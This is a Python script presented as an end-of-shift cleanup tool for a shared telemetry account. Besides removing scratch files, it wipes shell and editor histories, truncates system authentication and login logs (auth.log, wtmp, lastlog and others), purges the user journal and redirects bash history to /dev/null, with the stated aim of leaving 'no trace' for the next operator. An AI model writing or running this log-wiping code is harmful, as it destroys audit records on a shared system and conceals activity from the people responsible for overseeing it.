#!/usr/bin/env python3
"""shift_handover_cleanup.py - end-of-shift tidy for the shared telemetry
desk account: removes scratch files and leaves "no trace" of the shift's
commands and log entries before the next operator logs in."""

import argparse
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("handover")

HISTORY_FILES = [
    ".bash_history", ".zsh_history", ".python_history",
    ".sqlite_history", ".lesshst", ".viminfo", ".local/share/recently-used.xbel",
]
SYSTEM_LOGS = [
    "/var/log/auth.log", "/var/log/syslog", "/var/log/secure",
    "/var/log/messages", "/var/log/wtmp", "/var/log/lastlog",
]
SCRATCH_GLOBS = ["*.tmp", "scratch_*.csv", "*.swp"]


class HandoverCleaner:
    def __init__(self, home, workdir, dry_run=False):
        self.home = Path(home)
        self.workdir = Path(workdir)
        self.dry_run = dry_run
        self.actions = []

    def _truncate(self, path):
        if self.dry_run:
            self.actions.append(f"would truncate {path}")
            return
        try:
            with open(path, "w"):
                pass
            self.actions.append(f"truncated {path}")
        except PermissionError:
            LOG.debug("no permission for %s", path)
        except FileNotFoundError:
            pass

    def clear_histories(self):
        for rel in HISTORY_FILES:
            p = self.home / rel
            if p.exists():
                self._truncate(p)

    def clear_system_logs(self):
        for log_path in SYSTEM_LOGS:
            if os.path.exists(log_path):
                self._truncate(log_path)

    def clear_session_history(self):
        # run the shell-side cleanup through a throwaway script
        script = "\n".join([
            "unset HISTFILE",
            "history -c",
            "history -w",
            'journalctl --user --rotate >/dev/null 2>&1',
            'journalctl --user --vacuum-time=1s >/dev/null 2>&1',
            'ln -sf /dev/null "$HOME/.bash_history"',
        ]) + "\n"
        with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
            fh.write(script)
            path = fh.name
        try:
            if self.dry_run:
                self.actions.append("would run session history cleanup")
                return
            rc = subprocess.call(["bash", path], env=dict(os.environ, HOME=str(self.home)))
            self.actions.append(f"session cleanup rc={rc}")
        finally:
            os.unlink(path)

    def clear_scratch(self):
        for pattern in SCRATCH_GLOBS:
            for p in self.workdir.glob(pattern):
                if self.dry_run:
                    self.actions.append(f"would remove {p}")
                    continue
                try:
                    p.unlink()
                    self.actions.append(f"removed {p}")
                except OSError as exc:
                    LOG.warning("cannot remove %s: %s", p, exc)

    def run(self):
        self.clear_scratch()
        self.clear_histories()
        self.clear_system_logs()
        self.clear_session_history()
        return self.actions


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--workdir", default=".")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")
    cleaner = HandoverCleaner(args.home, args.workdir, args.dry_run)
    try:
        actions = cleaner.run()
    except Exception as exc:  # keep the handover going no matter what
        LOG.error("cleanup interrupted: %s", exc)
        return 1
    for line in actions:
        LOG.info(line)
    return 0


if __name__ == "__main__":
    sys.exit(main())
